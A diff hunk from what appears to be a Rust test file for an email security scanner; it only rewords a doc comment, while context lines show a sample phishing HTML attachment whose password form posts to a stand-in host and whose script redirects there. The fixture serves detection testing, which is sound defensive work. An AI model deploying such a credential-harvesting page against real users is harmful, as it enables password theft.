@@ -47,7 +47,8 @@ Content-Disposition: attachment; filename=\"secure-message.html\"\r\n\r\n\
 <html><body><form action=\"http://192.0.2.46/collect\">Password <input type=\"password\" name=\"p\"></form>\r\n\
 <script>window.location='http://192.0.2.46/x'</script></body></html>\r\n--b3--\r\n";
 
-/// A colleague forwards PHISHING_LINK and HTML_ATTACHMENT, each as an attached message (message/rfc822).
+/// Builds a message in which a colleague forwards PHISHING_LINK and HTML_ATTACHMENT, each as an attached
+/// message (message/rfc822).
 fn forwarded_threats() -> String {
     format!(
         "From: Carol Example <carol@recipient.example>\r\nTo: bob@recipient.example\r\nSubject: Fwd: are these real?\r\n\
